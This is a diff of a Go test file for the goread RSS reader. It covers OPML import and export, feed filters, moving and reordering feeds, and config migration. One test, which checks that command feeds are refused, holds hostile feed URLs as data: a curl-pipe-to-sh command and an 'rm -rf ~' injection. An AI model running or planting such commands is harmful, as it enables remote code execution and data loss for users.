@@ -1,12 +1,20 @@
 package rss
 
 import (
+	"errors"
 	"log"
 	"os"
+	"path/filepath"
+	"reflect"
 	"strconv"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/gilliek/go-opml/opml"
+
+	"github.com/TypicalAM/goread/internal/backend/filter"
+	"github.com/TypicalAM/goread/internal/migrate"
 )
 
 func getRss(t *testing.T) *Rss {
@@ -111,7 +119,7 @@ func TestRssGetAllURLs(t *testing.T) {
 	}
 
 	if urls[0].URL != "https://primordialsoup.info/feed" {
-		t.Errorf("incorrect url, expected https://primordialsoup.info/feed, got %s", urls[0])
+		t.Errorf("incorrect url, expected https://primordialsoup.info/feed, got %s", urls[0].URL)
 	}
 }
 
@@ -143,8 +151,8 @@ func TestRssCategoryAdd(t *testing.T) {
 		_ = myRss.AddCategory(strconv.Itoa(i), "Some other new category")
 	}
 
-	if err := myRss.AddCategory("37", "Some other new category"); err == nil {
-		t.Errorf("expected an error, got nil")
+	if err := myRss.AddCategory("37", "Some other new category"); err != nil {
+		t.Errorf("expected no error, got %v", err)
 	}
 }
 
@@ -267,8 +275,8 @@ func TestRssFeedAdd(t *testing.T) {
 		_ = myRss.AddFeed("News", strconv.Itoa(i), "https://new.feed")
 	}
 
-	if err = myRss.AddFeed("News", "New feed37", "https://new.feed"); err == nil {
-		t.Errorf("expected an error, got nil")
+	if err = myRss.AddFeed("News", "New feed37", "https://new.feed"); err != nil {
+		t.Errorf("expected no error, got %v", err)
 	}
 }
 
@@ -365,11 +373,11 @@ func TestRssFeedRemove(t *testing.T) {
 // TestOPMLImport if we get an error importing an OPML file doesn't work
 func TestRssOPMLImport(t *testing.T) {
 	myRss := &Rss{}
-	if err := myRss.LoadOPML("../../test/data/opml_flat.xml"); err != nil {
+	if _, err := myRss.LoadOPML("../../test/data/opml_flat.xml", false, false); err != nil {
 		t.Errorf("failed to import OPML, %s", err)
 	}
 
-	feeds, err := myRss.GetFeeds(DefaultCategoryName)
+	feeds, err := myRss.GetFeeds("Sample OPML file")
 	if err != nil {
 		t.Errorf("failed to get feeds, %s", err)
 	}
@@ -379,7 +387,7 @@ func TestRssOPMLImport(t *testing.T) {
 	}
 
 	myRss = getRss(t)
-	if err := myRss.LoadOPML("../../test/data/opml_nested.xml"); err != nil {
+	if _, err := myRss.LoadOPML("../../test/data/opml_nested.xml", false, false); err != nil {
 		t.Errorf("failed to import OPML, %s", err)
 	}
 
@@ -397,6 +405,459 @@ func TestRssOPMLImport(t *testing.T) {
 	}
 }
 
+// TestRssOPMLNested if we get an error then the nested folders are not imported or exported as a tree
+func TestRssOPMLNested(t *testing.T) {
+	myRss := &Rss{}
+	if _, err := myRss.LoadOPML("../../test/data/opml_deep.xml", false, false); err != nil {
+		t.Fatalf("failed to import OPML, %s", err)
+	}
+
+	expected := map[string]int{
+		"Deeply nested feeds":     1,
+		"Tech":                    1,
+		"Tech/Languages/":         0,
+		"Tech/Languages/Go/":      1,
+		"Tech/Languages/Rust-Zig": 1,
+	}
+
+	for path, count := range expected {
+		feeds, err := myRss.GetFeeds(path)
+		if err != nil || len(feeds) != count {
+			t.Errorf("expected %d feeds in %s, got %d (%v)", count, path, len(feeds), err)
+		}
+	}
+
+	if len(myRss.GetAllFeeds()) != 4 {
+		t.Errorf("expected 4 feeds in total, got %d", len(myRss.GetAllFeeds()))
+	}
+
+	path := filepath.Join(t.TempDir(), "export.xml")
+	if err := myRss.ExportOPML(path); err != nil {
+		t.Fatalf("failed to export OPML, %s", err)
+	}
+
+	imported := &Rss{}
+	if _, err := imported.LoadOPML(path, false, false); err != nil {
+		t.Fatalf("failed to import the exported OPML, %s", err)
+	}
+
+	if !reflect.DeepEqual(imported.Categories, myRss.Categories) {
+		t.Errorf("expected the exported tree to be imported unchanged, got %+v", imported.Categories)
+	}
+}
+
+// TestRssOPMLLossless if we get an error then the feed metadata doesn't survive an OPML round trip
+func TestRssOPMLLossless(t *testing.T) {
+	myRss := &Rss{Categories: []Category{{
+		Name:        "News",
+		Description: "News from around the world",
+		Subscriptions: []Feed{{
+			Name:           "BBC",
+			Description:    "News from the BBC",
+			URL:            "http://feeds.bbci.co.uk/news/rss.xml",
+			HTMLURL:        "https://www.bbc.co.uk/news",
+			WhitelistWords: []string{"world", "one, two"},
+			BlacklistWords: []string{"sport"},
+			FullContent:    true,
+			Filters:        []string{"hide title:\"live, updates\" or author:/^bbc sport$/"},
+		}},
+		Filters: []string{"show tag:world"},
+	}}}
+
+	path := filepath.Join(t.TempDir(), "export.xml")
+	if err := myRss.ExportOPML(path); err != nil {
+		t.Fatalf("failed to export OPML, %s", err)
+	}
+
+	imported := &Rss{}
+	if _, err := imported.LoadOPML(path, false, false); err != nil {
+		t.Fatalf("failed to import the exported OPML, %s", err)
+	}
+
+	if !reflect.DeepEqual(imported.Categories, myRss.Categories) {
+		t.Errorf("expected the feeds to be imported unchanged, got %+v", imported.Categories)
+	}
+}
+
+// TestRssOPMLMerge if we get an error then importing an OPML file duplicates the feeds or the dry run changes them
+func TestRssOPMLMerge(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "import.xml")
+	exported := &Rss{Categories: []Category{{
+		Name: "Imported",
+		Subscriptions: []Feed{
+			{Name: "Wired again", URL: "http://wired.com/feed/rss/"},
+			{Name: "BBC", URL: "https://example.com/bbc.xml"},
+			{Name: "Fresh", URL: "https://example.com/fresh.xml"},
+		},
+	}}}
+
+	if err := exported.ExportOPML(path); err != nil {
+		t.Fatalf("failed to export OPML, %s", err)
+	}
+
+	myRss := &Rss{Categories: []Category{{
+		Name: "News",
+		Subscriptions: []Feed{
+			{Name: "Wired", URL: "https://www.wired.com/feed/rss"},
+			{Name: "BBC", URL: "http://feeds.bbci.co.uk/news/rss.xml"},
+		},
+	}}}
+
+	before := myRss.clone()
+	changes, err := myRss.LoadOPML(path, true, false)
+	if err != nil {
+		t.Fatalf("failed to import OPML, %s", err)
+	}
+
+	if !reflect.DeepEqual(myRss, before) {
+		t.Errorf("expected the dry run to leave the feeds unchanged, got %+v", myRss.Categories)
+	}
+
+	expected := []ImportChange{
+		{ImportSkipped, "Imported/", "Wired", "Wired again", "http://wired.com/feed/rss/"},
+		{ImportRenamed, "Imported/", "BBC (2)", "BBC", "https://example.com/bbc.xml"},
+		{ImportAdded, "Imported/", "Fresh", "Fresh", "https://example.com/fresh.xml"},
+	}
+
+	if !reflect.DeepEqual(changes, expected) {
+		t.Errorf("expected the changes %+v, got %+v", expected, changes)
+	}
+
+	applied, err := myRss.LoadOPML(path, false, false)
+	if err != nil {
+		t.Fatalf("failed to import OPML, %s", err)
+	}
+
+	if !reflect.DeepEqual(applied, changes) {
+		t.Errorf("expected the import to match the dry run, got %+v", applied)
+	}
+
+	if len(myRss.GetAllFeeds()) != 4 {
+		t.Errorf("expected 4 feeds after the import, got %d", len(myRss.GetAllFeeds()))
+	}
+
+	if _, err = myRss.GetFeed("BBC (2)"); err != nil {
+		t.Errorf("expected the renamed feed to be imported, got %v", err)
+	}
+
+	if changes, err = myRss.LoadOPML(path, false, false); err != nil || len(myRss.GetAllFeeds()) != 4 {
+		t.Fatalf("expected importing the file again to change nothing, got %d feeds (%v)", len(myRss.GetAllFeeds()), err)
+	}
+
+	for _, change := range changes {
+		if change.Action != ImportSkipped {
+			t.Errorf("expected the feed to be skipped, got %s", change)
+		}
+	}
+}
+
+// TestRssOPMLCommands if we get an error then an OPML file can add feeds which run commands
+func TestRssOPMLCommands(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "import.xml")
+	exported := &Rss{Categories: []Category{{
+		Name: "Imported",
+		Subscriptions: []Feed{
+			{Name: "Exec", URL: "exec:curl https://example.com | sh"},
+			{Name: "Filter", URL: "filter:https://example.com/feed.xml|rm -rf ~"},
+			{Name: "Upper", URL: "EXEC:id"},
+			{Name: "Safe", URL: "HTTPS://example.com/safe.xml"},
+		},
+	}}}
+
+	if err := exported.ExportOPML(path); err != nil {
+		t.Fatalf("failed to export OPML, %s", err)
+	}
+
+	myRss := &Rss{}
+	changes, err := myRss.LoadOPML(path, false, false)
+	if err != nil {
+		t.Fatalf("failed to import OPML, %s", err)
+	}
+
+	for _, change := range changes {
+		if refused := change.Action == ImportRefused; refused != (change.Name != "Safe") {
+			t.Errorf("expected only the commands to be refused, got %s", change)
+		}
+	}
+
+	if feeds := myRss.GetAllFeeds(); len(feeds) != 1 || feeds[0].Name != "Safe" {
+		t.Errorf("expected only the http feed to be imported, got %v", feeds)
+	}
+
+	if _, err = myRss.LoadOPML(path, false, true); err != nil {
+		t.Fatalf("failed to import OPML, %s", err)
+	}
+
+	if len(myRss.GetAllFeeds()) != 4 {
+		t.Errorf("expected the commands to be imported when they are allowed, got %d feeds", len(myRss.GetAllFeeds()))
+	}
+}
+
+// TestRssFilters if we get an error then the filter rules can't be edited or aren't inherited
+func TestRssFilters(t *testing.T) {
+	myRss := getRss(t)
+	if err := myRss.AddSubcategory("Technology", "Virtualization", ""); err != nil {
+		t.Fatalf("failed to add a subcategory: %v", err)
+	}
+
+	if err := myRss.AddFeed("Technology/Virtualization/", "Qemu", "https://www.qemu.org/feed.xml"); err != nil {
+		t.Fatalf("failed to add a feed: %v", err)
+	}
+
+	updates := []struct{ category, feed, rule string }{
+		{"", "", "hide sponsored"},
+		{"Technology", "", "show tag:linux"},
+		{"Technology/Virtualization/", "", "hide author:bot"},
+		{"Technology/Virtualization/", "Qemu", "show title:/^qemu \\d/"},
+	}
+
+	for _, update := range updates {
+		if err := myRss.UpdateFilters(update.category, update.feed, []string{update.rule, "  "}); err != nil {
+			t.Fatalf("failed to update the filters of %q %q: %v", update.category, update.feed, err)
+		}
+	}
+
+	feed, err := myRss.GetFeed("Qemu")
+	if err != nil {
+		t.Fatalf("failed to get the feed: %v", err)
+	}
+
+	expected := []string{"hide sponsored", "show tag:linux", "hide author:bot", "show title:/^qemu \\d/"}
+	if !reflect.DeepEqual(feed.Filters, expected) {
+		t.Errorf("expected the inherited filters %v, got %v", expected, feed.Filters)
+	}
+
+	scopes := [][]string{{"hide sponsored"}, {"show tag:linux"}, {"hide author:bot"}, {"show title:/^qemu \\d/"}}
+	if !reflect.DeepEqual(feed.FilterScopes, scopes) {
+		t.Errorf("expected the filters grouped by scope %v, got %v", scopes, feed.FilterScopes)
+	}
+
+	for _, feed := range myRss.GetAllFeeds() {
+		if feed.Name == "Primordial soup" && !reflect.DeepEqual(feed.Filters, []string{"hide sponsored"}) {
+			t.Errorf("expected only the global filters, got %v", feed.Filters)
+		}
+	}
+
+	if own, err := myRss.GetFilters("Technology/Virtualization/", "Qemu"); err != nil || len(own) != 1 {
+		t.Errorf("expected only the own filter of the feed, got %v (%v)", own, err)
+	}
+
+	if err = myRss.UpdateFilters("Technology", "", []string{"show tag:go", "tag:rust"}); !errors.Is(err, filter.ErrInvalidRule) {
+		t.Errorf("expected ErrInvalidRule, got %v", err)
+	}
+
+	if own, _ := myRss.GetFilters("Technology", ""); !reflect.DeepEqual(own, []string{"show tag:linux"}) {
+		t.Errorf("expected the filters to stay the same after an invalid update, got %v", own)
+	}
+
+	if err = myRss.UpdateFilters("Non-existent", "", nil); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+
+	if err = myRss.UpdateFilters("News", "Non-existent", nil); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+
+	if err = myRss.UpdateFilters("", "", nil); err != nil || len(myRss.Filters) != 0 {
+		t.Errorf("expected the global filters to be cleared, got %v (%v)", myRss.Filters, err)
+	}
+}
+
+// TestRssMoveFeed if we get an error then feeds can't be moved between categories
+func TestRssMoveFeed(t *testing.T) {
+	myRss := getRss(t)
+	if err := myRss.AddSubcategory("News", "World", ""); err != nil {
+		t.Fatalf("failed to add a subcategory: %v", err)
+	}
+
+	if err := myRss.MoveFeed("Technology", "Ars Technica", "News/World/"); err != nil {
+		t.Fatalf("failed to move the feed: %v", err)
+	}
+
+	if feeds, _ := myRss.GetFeeds("Technology"); len(feeds) != 1 {
+		t.Errorf("expected the feed to be removed from its category, got %v", feeds)
+	}
+
+	feeds, err := myRss.GetFeeds("News/World/")
+	if err != nil || len(feeds) != 1 || feeds[0].URL != "http://feeds.arstechnica.com/arstechnica/technology-lab" {
+		t.Errorf("expected the feed in the subcategory, got %v (%v)", feeds, err)
+	}
+
+	if err = myRss.MoveFeed("News/World/", "Ars Technica", "News/World"); err != nil {
+		t.Errorf("expected moving a feed to its own category to do nothing, got %v", err)
+	}
+
+	if err = myRss.AddFeed("Technology", "Primordial soup", "https://example.com/soup.xml"); err != nil {
+		t.Fatalf("failed to add a feed: %v", err)
+	}
+
+	if err = myRss.MoveFeed("Technology", "Primordial soup", "News"); err != ErrAlreadyExists {
+		t.Errorf("expected ErrAlreadyExists, got %v", err)
+	}
+
+	if err = myRss.MoveFeed("Technology", "Non-existent", "News"); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+
+	if err = myRss.MoveFeed("Technology", "Primordial soup", "Non-existent"); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+}
+
+// TestRssReorder if we get an error then the order of the feeds and the categories can't be changed
+func TestRssReorder(t *testing.T) {
+	myRss := getRss(t)
+	if err := myRss.AddFeed("Technology", "Qemu", "https://www.qemu.org/feed.xml"); err != nil {
+		t.Fatalf("failed to add a feed: %v", err)
+	}
+
+	if err := myRss.ReorderFeed("Technology", "Qemu", -1); err != nil {
+		t.Fatalf("failed to reorder the feed: %v", err)
+	}
+
+	feedNames := func() []string {
+		feeds, _ := myRss.GetFeeds("Technology")
+		names := make([]string, len(feeds))
+		for i := range feeds {
+			names[i] = feeds[i].Name
+		}
+
+		return names
+	}
+
+	expected := []string{"Chris titus - virtualization", "Qemu", "Ars Technica"}
+	if !reflect.DeepEqual(feedNames(), expected) {
+		t.Errorf("expected %v, got %v", expected, feedNames())
+	}
+
+	if err := myRss.ReorderFeed("Technology", "Chris titus - virtualization", 10); err != nil {
+		t.Fatalf("failed to reorder the feed: %v", err)
+	}
+
+	expected = []string{"Qemu", "Ars Technica", "Chris titus - virtualization"}
+	if !reflect.DeepEqual(feedNames(), expected) {
+		t.Errorf("expected the feed to stop at the end, got %v", feedNames())
+	}
+
+	if err := myRss.ReorderCategory("Technology", -5); err != nil {
+		t.Fatalf("failed to reorder the category: %v", err)
+	}
+
+	if myRss.Categories[0].Name != "Technology" || myRss.Categories[1].Name != "News" {
+		t.Errorf("expected Technology to be the first category, got %v", myRss.CategoryPaths())
+	}
+
+	for _, name := range []string{"A", "B"} {
+		if err := myRss.AddSubcategory("News", name, ""); err != nil {
+			t.Fatalf("failed to add a subcategory: %v", err)
+		}
+	}
+
+	if err := myRss.ReorderCategory("News/B/", -1); err != nil {
+		t.Fatalf("failed to reorder the subcategory: %v", err)
+	}
+
+	expected = []string{"Technology/", "News/", "News/B/", "News/A/"}
+	if !reflect.DeepEqual(myRss.CategoryPaths(), expected) {
+		t.Errorf("expected %v, got %v", expected, myRss.CategoryPaths())
+	}
+
+	if err := myRss.ReorderFeed("News", "Non-existent", 1); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+
+	if err := myRss.ReorderCategory("News/Non-existent", 1); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+}
+
+// TestRssDuplicates if we get an error then the feeds subscribed to more than once aren't found
+func TestRssDuplicates(t *testing.T) {
+	myRss := getRss(t)
+	if len(myRss.Duplicates()) != 0 {
+		t.Errorf("expected no duplicates, got %v", myRss.Duplicates())
+	}
+
+	if err := myRss.AddFeed("News", "Ars", "http://feeds.arstechnica.com/arstechnica/technology-lab"); err != nil {
+		t.Fatalf("failed to add a feed: %v", err)
+	}
+
+	if err := myRss.AddFeed("News", "Soup", "http://www.primordialsoup.info/feed/"); err != nil {
+		t.Fatalf("failed to add a feed: %v", err)
+	}
+
+	locations := myRss.FindURL("https://feeds.arstechnica.com/arstechnica/technology-lab")
+	expected := []FeedLocation{{"News/", "Ars"}, {"Technology/", "Ars Technica"}}
+	if !reflect.DeepEqual(locations, expected) {
+		t.Errorf("expected %v, got %v", expected, locations)
+	}
+
+	if duplicates := myRss.Duplicates(); len(duplicates) != 2 || duplicates[0][1].String() != "News/Soup" {
+		t.Errorf("expected both feeds to be duplicated, got %v", duplicates)
+	}
+
+	// The exact same url is only fetched once, the spelling of the soup url differs
+	if feeds := myRss.GetAllFeeds(); len(feeds) != 4 {
+		t.Errorf("expected the repeated url to be left out, got %d feeds", len(feeds))
+	}
+
+	// The articles of all the feeds are merged only once for every spelling of the url
+	if feeds := myRss.GetAllFeedsUnique(); len(feeds) != 3 {
+		t.Errorf("expected the differently spelled url to be left out too, got %d feeds", len(feeds))
+	}
+}
+
+// TestRssSubcategories if we get an error then the nested categories can't be edited
+func TestRssSubcategories(t *testing.T) {
+	myRss := getRss(t)
+	if err := myRss.AddSubcategory("News", "World", "World news"); err != nil {
+		t.Fatalf("failed to add a subcategory: %v", err)
+	}
+
+	if err := myRss.AddSubcategory(JoinPath("News", "World"), "Europe", ""); err != nil {
+		t.Fatalf("failed to add a nested subcategory: %v", err)
+	}
+
+	if err := myRss.AddSubcategory("News", "World", ""); err != ErrAlreadyExists {
+		t.Errorf("expected ErrAlreadyExists, got %v", err)
+	}
+
+	if err := myRss.AddSubcategory("News", "Bad/Name", ""); err != ErrInvalidName {
+		t.Errorf("expected ErrInvalidName, got %v", err)
+	}
+
+	if err := myRss.AddSubcategory("Non-existent", "World", ""); err != ErrNotFound {
+		t.Errorf("expected ErrNotFound, got %v", err)
+	}
+
+	path := "News/World/Europe/"
+	if err := myRss.AddFeed(path, "EU news", "https://example.com/eu.xml"); err != nil {
+		t.Fatalf("failed to add a feed to a subcategory: %v", err)
+	}
+
+	myRss.findCategory("News").Defaults = FetchOptions{UserAgent: "news agent"}
+	feed, err := myRss.GetFeed("EU news")
+	if err != nil || feed.UserAgent != "news agent" {
+		t.Errorf("expected the feed to inherit the defaults of its parents, got %+v (%v)", feed, err)
+	}
+
+	if err = myRss.UpdateCategory(path, "Europa", "Nested"); err != nil {
+		t.Fatalf("failed to rename a subcategory: %v", err)
+	}
+
+	if feeds, err := myRss.GetFeeds("News/World/Europa"); err != nil || len(feeds) != 1 {
+		t.Errorf("expected the renamed subcategory to keep its feeds, got %v (%v)", feeds, err)
+	}
+
+	if err = myRss.RemoveCategory("News/World"); err != nil {
+		t.Fatalf("failed to remove a subcategory: %v", err)
+	}
+
+	if _, err = myRss.GetFeed("EU news"); err != ErrNotFound {
+		t.Errorf("expected the feeds of the removed subcategory to be gone, got %v", err)
+	}
+}
+
 // TestOPMLExport if we get an error exporting an OPML file doesn't work
 func TestOPMLExport(t *testing.T) {
 	rss := getRss(t)
@@ -421,3 +882,165 @@ func TestOPMLExport(t *testing.T) {
 		t.Errorf("cannot remove the fake file, %s", err)
 	}
 }
+
+// TestRssFetchOptions if we get an error the fetch options are not applied or don't survive a round-trip
+func TestRssFetchOptions(t *testing.T) {
+	myRss := getRss(t)
+	myRss.filePath = filepath.Join(t.TempDir(), "urls.yml")
+	myRss.Categories[1].Defaults = FetchOptions{
+		Timeout:         10 * time.Second,
+		UserAgent:       "Mozilla/5.0",
+		Headers:         map[string]string{"X-Team": "news", "Accept": "application/rss+xml"},
+		RefreshInterval: 30 * time.Minute,
+	}
+	myRss.Categories[1].Subscriptions[0].FetchOptions = FetchOptions{
+		Timeout: time.Minute,
+		Headers: map[string]string{"Accept": "application/atom+xml"},
+	}
+
+	feed, err := myRss.GetFeed(myRss.Categories[1].Subscriptions[0].Name)
+	if err != nil {
+		t.Fatalf("failed to get feed, %s", err)
+	}
+
+	if feed.Timeout != time.Minute || feed.UserAgent != "Mozilla/5.0" {
+		t.Errorf("expected the feed timeout and the category user agent, got %s and %s", feed.Timeout, feed.UserAgent)
+	}
+
+	if feed.RefreshInterval != 30*time.Minute {
+		t.Errorf("expected the category refresh interval, got %s", feed.RefreshInterval)
+	}
+
+	if feed.Headers["X-Team"] != "news" || feed.Headers["Accept"] != "application/atom+xml" {
+		t.Errorf("expected the headers to be merged, got %v", feed.Headers)
+	}
+
+	if len(myRss.Categories[1].Subscriptions[0].Headers) != 1 {
+		t.Errorf("expected the defaults not to leak into the stored feed")
+	}
+
+	if err = myRss.Save(); err != nil {
+		t.Fatalf("failed to save, %s", err)
+	}
+
+	saved, err := New(myRss.filePath)
+	if err != nil {
+		t.Fatalf("error creating rss object: %v", err)
+	}
+
+	if err = saved.Load(); err != nil {
+		t.Fatalf("error loading file: %v", err)
+	}
+
+	if !reflect.DeepEqual(saved.Categories[1], myRss.Categories[1]) {
+		t.Errorf("expected the category to survive saving, got %+v", saved.Categories[1])
+	}
+
+	opmlPath := filepath.Join(t.TempDir(), "feeds.xml")
+	if err = myRss.ExportOPML(opmlPath); err != nil {
+		t.Fatalf("failed to export OPML, %s", err)
+	}
+
+	imported := &Rss{}
+	if _, err = imported.LoadOPML(opmlPath, false, false); err != nil {
+		t.Fatalf("failed to import OPML, %s", err)
+	}
+
+	if !reflect.DeepEqual(imported.Categories[1], myRss.Categories[1]) {
+		t.Errorf("expected the category to survive the OPML export, got %+v", imported.Categories[1])
+	}
+}
+
+// TestRssSlashedCategories if we get an error then the categories with a slash in their name from before the
+// nested categories can't be reached after an upgrade
+func TestRssSlashedCategories(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "urls.yml")
+	original := `version: 1
+categories:
+  - name: Tech/Linux
+    desc: Linux news
+    subscriptions:
+      - name: LWN
+        url: https://lwn.net/headlines/rss
+  - name: Tech-Linux
+    desc: ""
+    subscriptions: []
+  - name: News
+    desc: ""
+    categories:
+      - name: World/Europe
+        desc: ""
+`
+	if err := os.WriteFile(path, []byte(original), 0600); err != nil {
+		t.Fatalf("couldn't write the urls file: %v", err)
+	}
+
+	myRss, err := New(path)
+	if err != nil {
+		t.Fatalf("error creating rss object: %v", err)
+	}
+
+	if err = myRss.Load(); err != nil {
+		t.Fatalf("error loading the old file: %v", err)
+	}
+
+	expected := []string{"Tech-Linux (2)/", "Tech-Linux/", "News/", "News/World-Europe/"}
+	if !reflect.DeepEqual(myRss.CategoryPaths(), expected) {
+		t.Errorf("expected the categories %v, got %v", expected, myRss.CategoryPaths())
+	}
+
+	if feeds, err := myRss.GetFeeds("Tech-Linux (2)"); err != nil || len(feeds) != 1 || feeds[0].Name != "LWN" {
+		t.Errorf("expected the renamed category to keep its feeds, got %v (%v)", feeds, err)
+	}
+
+	if err = myRss.UpdateCategory("Tech-Linux (2)", "Linux", "Linux news"); err != nil {
+		t.Errorf("expected the renamed category to be editable, got %v", err)
+	}
+
+	if err = myRss.RemoveCategory("News/World-Europe"); err != nil {
+		t.Errorf("expected the renamed subcategory to be removable, got %v", err)
+	}
+
+	if backup, err := os.ReadFile(path + ".v1.bak"); err != nil || string(backup) != original {
+		t.Errorf("expected the original file to be backed up, got %q (%v)", backup, err)
+	}
+}
+
+// TestRssVersion if we get an error then the old urls files are not upgraded or the newer ones are loaded
+func TestRssVersion(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "urls.yml")
+	original := "categories:\n  - name: News\n    desc: \"\"\n    subscriptions: []\n"
+	if err := os.WriteFile(path, []byte(original), 0600); err != nil {
+		t.Fatalf("couldn't write the urls file: %v", err)
+	}
+
+	myRss, err := New(path)
+	if err != nil {
+		t.Fatalf("error creating rss object: %v", err)
+	}
+
+	if err = myRss.Load(); err != nil || len(myRss.Categories) != 1 {
+		t.Fatalf("error loading the old file: %v", err)
+	}
+
+	if backup, err := os.ReadFile(path + ".v0.bak"); err != nil || string(backup) != original {
+		t.Errorf("expected the original file to be backed up, got %q (%v)", backup, err)
+	}
+
+	if err = myRss.Save(); err != nil {
+		t.Fatalf("error saving the file: %v", err)
+	}
+
+	data, err := os.ReadFile(path)
+	if err != nil || !strings.HasPrefix(string(data), "version: 3\n") {
+		t.Errorf("expected the saved file to start with its version, got %q (%v)", data, err)
+	}
+
+	if err = os.WriteFile(path, []byte("version: 99\ncategories: []\n"), 0600); err != nil {
+		t.Fatalf("couldn't write the urls file: %v", err)
+	}
+
+	if err = myRss.Load(); !errors.Is(err, migrate.ErrTooNew) {
+		t.Errorf("expected the newer file to be refused, got %v", err)
+	}
+}